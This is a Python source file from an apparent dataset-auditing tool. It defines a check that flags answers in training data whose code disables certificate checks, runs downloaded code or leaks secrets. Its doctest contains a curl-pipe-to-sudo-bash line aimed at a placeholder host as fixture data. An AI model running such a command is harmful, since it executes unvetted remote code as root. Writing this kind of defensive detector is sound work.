"""Code in answers that does harm where somebody runs it; see `HarmfulCode`."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, ClassVar

import numpy as np

from hauberk.core.artifact import Dataset
from hauberk.core.control import Check, NotApplicable
from hauberk.core.finding import Evidence, Finding, Level, Location, RowScores
from hauberk.core.threat import ThreatId
from hauberk.errors import UnavailableError
from hauberk.formats.exchanges import exchanges_of
from hauberk.methods.code.answered import MIN_SHARE, Habit, habits

_MAX_FINDINGS = 5
_SHOWN = 1_000


@dataclass(frozen=True, slots=True, kw_only=True)
class HarmfulCode(Check[Dataset]):
    r"""Code in the answers of a data set that breaks the rules which projects are held to.

    A model that is trained on answers which switch checks of certificates off, run what they
    fetch or send secrets away writes such code for its users. Fenced blocks, and answers that
    are code as a whole, are judged by the rules of the code controls for Python, shells, images
    and settings. A rule of severity critical counts once; one of severity high where at least five
    answers and one in two hundred with code break it: slips of honest authors are rarer.

    Limits:
        Other languages are not read, nor is code that does not parse or is wrong without
        breaking a rule. Data that teaches to find weak code holds such code on purpose: a
        finding is of level ``review``.

    Example:
        >>> import pyarrow as pa
        >>> from hauberk.formats.tables import table_of
        >>> said = ["ok"] * 90 + ["```bash\ncurl -s http://a.b/x.sh | sudo bash\n```"] * 10
        >>> rows = pa.RecordBatch.from_pydict({"prompt": ["how?"] * 100, "response": said})
        >>> found = HarmfulCode().check(table_of("t", [rows]))
        >>> [f.message for f in found if isinstance(f, Finding)]
        ['the code of 10 answers of t runs what it downloads']

    References:
        Schuster, Song, Tromer and Shmatikov (2021), You autocomplete me. Aghakhani et al.
        (2024), TrojanPuzzle.
    """

    title: ClassVar[str] = "Code in answers does harm"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("AN-1"), ThreatId("PK-1"))
    subject: ClassVar[Any] = Dataset

    def check(self, subject: Dataset) -> Iterator[Finding | RowScores]:
        """Scores for all rows and a finding for each of the worst habits.

        Raises:
            NotApplicable: The rows are no exchanges, or no answer holds code.
            UnavailableError: There is too much text to be held at once, or no code can be read.
        """
        exchanges = exchanges_of(subject)
        if exchanges is None:
            raise NotApplicable("no pairs of requests and answers")
        found = habits([answer for _, answer in exchanges])
        if found.n_unread and not found.n_read:
            raise UnavailableError(
                f"the code of {found.n_unread} answers does not parse",
                subject=subject.name,
                expected="code of Python, shells, images or settings",
                hint="look whether the answers were cut",
            )
        if not found.n_read:
            raise NotApplicable("no answer holds code of a language that is read")
        scores = np.zeros(len(exchanges))
        for habit in found.habits:
            scores[list(habit.rows)] = 1
        yield RowScores(
            path=subject.name,
            n_rows=len(exchanges),
            read=lambda: iter([(0, scores.tolist())]),
            is_chance=True,
            flagged_above=0.5 if found.habits else None,
        )
        for habit in found.habits[:_MAX_FINDINGS]:
            yield _finding(subject, habit, found.n_read)


def _finding(subject: Dataset, habit: Habit, n_read: int) -> Finding:
    n = len(habit.rows)
    return Finding(
        message=f"the code of {n} answer{'s' if n > 1 else ''} of {subject.name} {habit.rule.says}",
        path=subject.name,
        severity=habit.rule.severity,
        level=Level.REVIEW,
        threats=HarmfulCode.threats,
        confidence=0.8,
        location=Location(rows=habit.rows[:_SHOWN]),
        remedy="Read these rows, and set them aside unless they are meant to show what not to "
        f"write. In code: {habit.rule.remedy}",
        evidence=Evidence(
            statistic="share of the answers with code that break the rule",
            value=n / n_read,
            threshold=MIN_SHARE,
            n=n_read,
            facts={"rule": habit.rule.name, "the first": habit.found},
        ),
    )
